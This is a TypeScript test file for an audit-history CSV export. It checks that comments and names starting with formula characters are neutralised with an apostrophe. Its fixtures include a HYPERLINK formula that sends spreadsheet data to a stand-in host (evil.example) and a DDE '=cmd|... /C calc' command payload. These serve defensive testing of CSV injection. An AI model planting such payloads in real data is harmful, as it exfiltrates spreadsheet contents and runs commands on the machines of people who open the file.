import { historyCsv } from './audit-entry.dto.js';
import type { AuditEntryDto } from './audit-entry.dto.js';

/** Issue 20, finding 5: a comment became a live formula in the auditor's spreadsheet. */
describe('history CSV', () => {
  const entry = (comment: string, extra: Partial<AuditEntryDto> = {}): AuditEntryDto =>
    ({
      seq: 2, at: '2016-01-05T02:00:00.000Z', event: 'RETURN', fromState: 'submitted', toState: 'returned',
      actor: { username: 'lb.secretary', name: 'Nguyễn Huy Thắng', role: 'secretary', unitId: null, onBehalfOf: null },
      comment, requestId: 'req-1', prevHash: 'a'.repeat(64), hash: 'b'.repeat(64), payload: {}, ...extra,
    }) as unknown as AuditEntryDto;
  const cells = (csv: string) => csv.replace(/^\uFEFF/, '').split('\r\n')[1];

  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2, "Xem")', `"'=HYPERLINK(""https://evil.example/?""&A2, ""Xem"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
  ])('neutralises %j', (comment, written) => {
    expect(cells(historyCsv([entry(comment)]))).toContain(`,${written},`);
  });

  it('leaves ordinary text as it was', () => {
    expect(cells(historyCsv([entry('Đề nghị bổ sung số liệu, 2 hội nghị')]))).toContain(',"Đề nghị bổ sung số liệu, 2 hội nghị",');
  });

  it('neutralises every text column, names included', () => {
    const row = cells(historyCsv([entry('ok', { actor: { username: 'x', name: '=cmd|" /C calc"!A0', role: 'secretary', unitId: null, onBehalfOf: null } } as Partial<AuditEntryDto>)]));
    expect(row).toContain(`"'=cmd|"" /C calc""!A0"`);
  });
});
